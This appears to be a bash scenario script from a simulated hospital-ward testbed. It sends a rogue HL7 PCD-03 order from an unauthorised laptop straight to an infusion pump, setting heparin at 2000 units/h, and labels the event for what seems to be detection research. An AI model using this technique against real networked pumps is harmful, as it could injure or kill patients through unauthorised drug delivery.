# Unauthorized pump programming: a laptop on the ward network sends an IHE PCD-03 RGV^O15 order
# straight to pump 1 (port 3000), bypassing the pump server and the EHR. The pump (like the
# fielded ones in the advisories) accepts it and acknowledges AA.
DEFAULT_DURATION=30
attack_rogue_programming() {
  local t0 t1
  t0=$(now)
  run_in attacker hl7-send 15 "$WARD_SIM" hl7-send --to 10.10.2.21:3000 --type pcd03 \
    --sender 'LAPTOP^0012AB00000000FF^EUI-64' --control ROGUE0001 --pump PUMP0021 \
    --drug heparin --drug-id 0409-2720 --rate 2000 --units '[iU]/h' --vtbi 250 || return 1
  t1=$(now)
  label unauthorized_programming T0855 attacker pump1 "$t0" "$t1" \
    "RGV^O15 heparin 2000 units/h sent to PUMP0021 directly from a host that is not an authorised programmer"
}
scenario_run() {
  start_ward "$1"
  sleep 8
  attack_rogue_programming
}
